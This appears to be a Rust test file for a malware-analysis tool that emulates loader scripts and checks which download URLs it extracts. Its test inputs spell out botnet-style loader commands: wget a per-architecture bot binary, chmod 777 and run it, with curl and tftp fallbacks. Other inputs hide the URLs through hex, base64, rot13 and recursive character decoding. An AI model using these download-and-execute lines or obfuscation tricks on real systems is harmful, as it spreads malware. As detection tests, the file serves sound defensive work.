//! Scripts as loaders write them; addresses are for documentation only.

use super::run;
use crate::kind;
use crate::limits::Limits;
use crate::observables::Finds;
use ukai_model::{ObservableKind, Timestamp};

struct Ran {
    urls: Vec<String>,
    commands: Vec<String>,
    notes: Vec<String>,
}

fn ran(script: &str) -> Ran {
    let limits = Limits::default();
    let mut finds = Finds::new(limits.observables);
    // A shell script, whatever it looks like.
    let kind = kind::identify(b"#!/bin/sh\n", None);
    let report = run(&kind, None, script.as_bytes(), Timestamp::from_secs(1_700_000_000), &limits);
    report.scan(&mut finds);
    let urls = finds.list.iter().filter(|it| it.observable.kind == ObservableKind::Url);
    let is_told = |method: &str| ["script", "script-text"].contains(&method);
    assert!(finds.list.iter().all(|it| is_told(&it.method) && it.offset == 0));
    Ran {
        urls: urls.map(|it| it.observable.value.clone()).collect(),
        commands: report.commands.iter().map(ToString::to_string).collect(),
        notes: report.notes,
    }
}

#[test]
fn a_loop_over_architectures_gives_every_url() {
    let ran = ran(
        "#!/bin/sh\nH=192.0.2.10\nfor a in mips mpsl arm7 x86; do\n  cd /tmp; wget http://$H/bins/bot.$a -O x; chmod 777 x; ./x $a; rm -f x\ndone\n",
    );
    let expected =
        ["mips", "mpsl", "arm7", "x86"].map(|a| format!("http://192.0.2.10/bins/bot.{a}"));
    assert_eq!(ran.urls, expected);
    assert!(ran.commands.iter().any(|line| line.contains("wget")), "{:?}", ran.commands);
}

#[test]
fn other_ways_are_met_when_the_first_fails() {
    let ran =
        ran("wget http://192.0.2.10/a || curl -O http://192.0.2.11/b || tftp -g -r c 192.0.2.12\n");
    for expected in ["http://192.0.2.10/a", "http://192.0.2.11/b"] {
        assert!(ran.urls.iter().any(|url| url == expected), "{expected} not in {:?}", ran.urls);
    }
    assert!(ran.urls.iter().any(|url| url.starts_with("tftp://192.0.2.12")), "{:?}", ran.urls);
}

#[test]
fn every_device_is_tried() {
    let ran = ran("wget http://c2.example/$(uname -m)\n");
    assert!(ran.urls.len() >= 2, "{:?}", ran.urls);
}

#[test]
fn sleeping_and_endless_scripts_end() {
    let sleeping = ran("sleep 3600; wget http://192.0.2.10/late\n");
    assert_eq!(sleeping.urls, ["http://192.0.2.10/late"]);
    let endless = ran("while true; do wget http://192.0.2.10/again; sleep 60; done\n");
    assert_eq!(endless.urls, ["http://192.0.2.10/again"]);
    assert!(!endless.notes.is_empty());
}

#[test]
fn carriage_returns_do_not_spoil_urls() {
    assert_eq!(ran("wget http://192.0.2.10/a\r\nwget http://192.0.2.10/b\r\n").urls.len(), 2);
}

#[test]
fn files_that_a_script_makes_are_read() {
    let ran = ran("echo 'curl http://192.0.2.10/inner.sh -o y; sleep 1; echo done' > /tmp/x.sh\n");
    assert_eq!(ran.urls, ["http://192.0.2.10/inner.sh"]);
    assert!(ran.notes.iter().any(|note| note.contains("/tmp/x.sh")), "{:?}", ran.notes);
}

#[test]
fn python_of_the_second_kind_is_run() {
    let limits = Limits::default();
    let kind = kind::identify(b"#!/usr/bin/env python\n", None);
    let script = br#"#!/usr/bin/env python
# -*- coding: utf-8 -*-
import urllib, urllib2, os, commands
from urllib import quote
host = '192.0.2.7'
print "begins", 0755, 10L
print >>open('/tmp/log', 'w'), "x",
try:
    raise ValueError, "no"
except ValueError, e:
    print `e`
if 1 <> 2:
    urllib.urlretrieve('http://' + host + '/a', '/tmp/a')
for i in xrange(2):
    urllib2.urlopen('http://%s/%d' % (host, i)).read()
exec "urllib2.urlopen('http://192.0.2.7/exec')"
commands.getoutput('wget http://192.0.2.7/' + quote('a b'))
urllib2.urlopen('687474703a2f2f3139322e302e322e372f686578'.decode('hex'))
urllib2.urlopen('aHR0cDovLzE5Mi4wLjIuNy9iNjQ='.decode('base64'))
urllib2.urlopen('uggc://192.0.2.7/ebg'.decode('rot13'))
"#;
    let report = run(&kind, None, script, Timestamp::from_secs(1_700_000_000), &limits);
    let mut finds = Finds::new(limits.observables);
    report.scan(&mut finds);
    let urls: Vec<&str> = finds
        .list
        .iter()
        .filter(|it| it.observable.kind == ObservableKind::Url)
        .map(|it| it.observable.value.as_str())
        .collect();
    let expected = ["a", "0", "1", "exec", "a%20b", "hex", "b64", "rot"];
    assert_eq!(urls, expected.map(|path| format!("http://192.0.2.7/{path}")), "{:?}", report.notes);
}

#[test]
fn functions_call_themselves_as_often_as_a_text_has_letters() {
    let url = format!("http://192.0.2.7/{}", "b".repeat(300));
    let codes =
        url.chars().fold(String::new(), |codes, it| format!("{codes}{:03}", u32::from(it) + 7));
    let python = format!(
        "import urllib.request\ndef d(s):\n  if not s:\n    return ''\n  \
         return chr(int(s[:3]) - 7) + d(s[3:])\nurllib.request.urlopen(d('{codes}'))\n"
    );
    // Perl's levels are dear where nothing is optimised.
    let shorter = format!("http://192.0.2.7/{}", "b".repeat(150));
    let codes = &codes[..3 * shorter.len()];
    let perl = format!(
        "use LWP::Simple;\nsub d {{ my ($s) = @_; return '' if $s eq ''; \
         return chr(substr($s, 0, 3) - 7) . d(substr($s, 3)); }}\nget(d('{codes}'));\n"
    );
    let endless = "def f(x):\n  return f(x + 1) + f(x)\nf(1)\n".to_owned();
    let cases =
        [("python3", &python, &url), ("perl", &perl, &shorter), ("python3", &endless, &url)];
    for (first, script, url) in cases {
        let limits = Limits::default();
        let kind = kind::identify(format!("#!/usr/bin/{first}\n").as_bytes(), None);
        let now = Timestamp::from_secs(1_700_000_000);
        let report = run(&kind, None, script.as_bytes(), now, &limits);
        let mut finds = Finds::new(limits.observables);
        report.scan(&mut finds);
        let found = finds.list.iter().any(|it| it.observable.value == *url);
        assert_eq!(found, script != &endless, "{first}: {:?}", report.notes);
    }
}
